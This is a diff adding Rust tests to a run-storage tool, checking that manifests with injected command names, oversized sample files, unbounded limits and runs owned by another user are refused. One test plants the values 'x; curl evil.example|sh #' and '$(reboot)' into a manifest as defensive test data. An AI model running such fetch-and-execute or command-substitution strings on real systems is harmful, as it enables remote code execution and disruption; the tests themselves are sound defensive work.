@@ -356,3 +356,55 @@ fn records_that_are_lost_are_told() {
     run.resume().unwrap();
     assert_eq!(run.damage().unwrap(), None);
 }
+
+#[test]
+fn a_run_whose_names_would_be_a_command_is_refused() {
+    let (_dir, root) = root();
+    let run = root.create(&manifest("one")).unwrap();
+    let path = run.dir().join("manifest.json");
+    let written = fs::read_to_string(&path).unwrap();
+    for (was, is) in [
+        ("\"one\"", "\"x; curl evil.example|sh #\""),
+        ("\"send-copies\"", "\"$(reboot)\""),
+    ] {
+        assert!(written.contains(was));
+        fs::write(&path, written.replacen(was, is, 1)).unwrap();
+        let why = root.open("one").unwrap_err();
+        assert!(matches!(why, StoreError::Unreadable(..)), "{why}");
+        assert!(!why.to_string().contains("curl"), "{why}");
+    }
+}
+
+#[test]
+fn a_log_or_a_study_without_a_bound_is_refused_at_once() {
+    let (_dir, root) = root();
+    let run = root.create(&manifest("one")).unwrap();
+    let sparse = fs::OpenOptions::new()
+        .write(true)
+        .open(run.dir().join("samples.jsonl"));
+    sparse.unwrap().set_len(200 << 30).unwrap();
+    drop(run);
+    let mut run = root.open("one").unwrap();
+    let is_large = |why: StoreError| assert!(matches!(why, StoreError::TooLarge(..)), "{why}");
+    is_large(run.records().unwrap_err());
+    is_large(run.resume().unwrap_err());
+    assert!(root.runs().unwrap()[0].state.starts_with("unreadable"));
+    let mut many = manifest("two");
+    many.study.blocks_most = u32::MAX;
+    drop(root.create(&many).unwrap());
+    let why = root.open("two").unwrap_err();
+    assert!(why.to_string().contains("at most 10000"), "{why}");
+}
+
+#[test]
+fn root_reads_nothing_of_a_run_to_continue_that_is_somebody_elses() {
+    if !rustix::process::geteuid().is_root() {
+        return eprintln!("skipped: this is about root");
+    }
+    let (_dir, root) = root();
+    let run = root.create(&manifest("one")).unwrap();
+    std::os::unix::fs::chown(run.dir(), Some(1234), None).unwrap();
+    fs::write(run.dir().join("manifest.json"), "nothing that can be read").unwrap();
+    let why = root.open_to_change("one").unwrap_err();
+    assert!(matches!(why, StoreError::OfAnother(_, 1234)), "{why}");
+}
